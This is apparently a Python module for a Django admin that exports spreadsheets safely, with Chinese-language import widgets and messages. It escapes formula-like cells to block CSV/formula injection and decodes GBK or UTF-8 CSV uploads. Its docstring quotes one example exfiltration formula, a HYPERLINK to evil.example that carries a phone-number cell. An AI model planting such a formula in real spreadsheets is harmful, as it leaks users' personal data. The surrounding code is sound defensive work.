"""Spreadsheet files the admin writes (django-import-export): safe to open in Excel.

Every export goes through `FORMATS`. A text cell that a spreadsheet would read as a
formula (a name such as `=HYPERLINK("http://evil.example/?p="&E2,"详情")` would send
the phone number in E2 away) is written with a leading apostrophe; `restore` removes it
again when an exported file is imported back. CSV carries a BOM so Excel reads the
Chinese as UTF-8; a CSV to import may be UTF-8 (with or without the BOM) or, as Excel
and WPS save it on a Chinese Windows, GBK/GB18030 (`decode_csv`).
"""

from import_export import widgets
from import_export.formats import base_formats
from import_export.results import Result

# What starts a formula in Excel, LibreOffice or WPS, and the full-width forms a
# Chinese input method types.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def neutralize(value):
    """`value`, or for text that would start a formula, the same text after a '."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def restore(text: str) -> str:
    """Undo `neutralize` on a cell read from an exported file."""
    if text.startswith("'") and text[1:].startswith(FORMULA_STARTS):
        return text[1:]
    return text


def _neutralized(dataset):
    for i in range(dataset.height):
        dataset[i] = [neutralize(value) for value in dataset[i]]
    return dataset


def decode_csv(content: bytes) -> str:
    """The text of a CSV file: UTF-8 (a BOM is dropped), otherwise GB18030, the superset
    of GBK/GB2312 that Excel and WPS use for "CSV" on a Chinese Windows. Bytes that are
    neither raise UnicodeDecodeError."""
    try:
        return content.decode("utf-8-sig")
    except UnicodeDecodeError:
        return content.decode("gb18030")


class CSV(base_formats.CSV):
    CONTENT_TYPE = "text/csv; charset=utf-8"

    # The admin stores and reads the upload as bytes, so `create_dataset` picks the
    # encoding instead of the admin's single `from_encoding`.
    def is_binary(self):
        return True

    def get_read_mode(self):
        return "rb"

    def create_dataset(self, in_stream, **kwargs):
        if isinstance(in_stream, bytes):
            in_stream = decode_csv(in_stream)
        return super().create_dataset(in_stream, **kwargs)

    def export_data(self, dataset, **kwargs):
        return "\ufeff" + super().export_data(_neutralized(dataset), **kwargs)


class XLSX(base_formats.XLSX):
    def export_data(self, dataset, **kwargs):
        return super().export_data(_neutralized(dataset), **kwargs)


FORMATS = [XLSX, CSV]


# Shared cells and messages of every import.


class TextWidget(widgets.CharWidget):
    """Text with surrounding spaces removed (names are matched on re-import) and the
    apostrophe the export puts before formula-like text taken off again."""

    def clean(self, value, row=None, **kwargs):
        if isinstance(value, float) and value.is_integer():
            value = int(value)  # spreadsheets turn 1001 into 1001.0
        return restore(super().clean(value, row, **kwargs).strip())


class YesNoWidget(widgets.Widget):
    TRUE = {"是", "1", "true", "yes", "y", "√", "会员"}
    FALSE = {"否", "0", "false", "no", "n", "×", ""}

    def __init__(self, *, default: bool, **kwargs):
        self.default = default
        super().__init__(**kwargs)

    def clean(self, value, row=None, **kwargs):
        if value is None:
            return self.default
        if isinstance(value, bool):
            return value
        text = str(value).strip().lower()
        if text == "":
            return self.default
        if text in self.TRUE:
            return True
        if text in self.FALSE:
            return False
        raise ValueError(f"“{value}”不是有效的是/否值，请填写“是”或“否”。")

    def render(self, value, obj=None, **kwargs):
        return "是" if value else "否"


def row_problems(result: Result) -> list[str]:
    """Each failing row as one Chinese sentence: 第 N 行：字段：原因。"""
    problems = []
    for invalid in result.invalid_rows:
        for field, messages in invalid.error_dict.items():
            label = field if field != "__all__" else "整行"  # fields carry their Chinese header
            problems.append(f"第 {invalid.number} 行：{label}：{'；'.join(map(str, messages))}")
    for number, errors in result.row_errors():
        for error in errors:
            problems.append(f"第 {number} 行：{error.error}")
    return problems
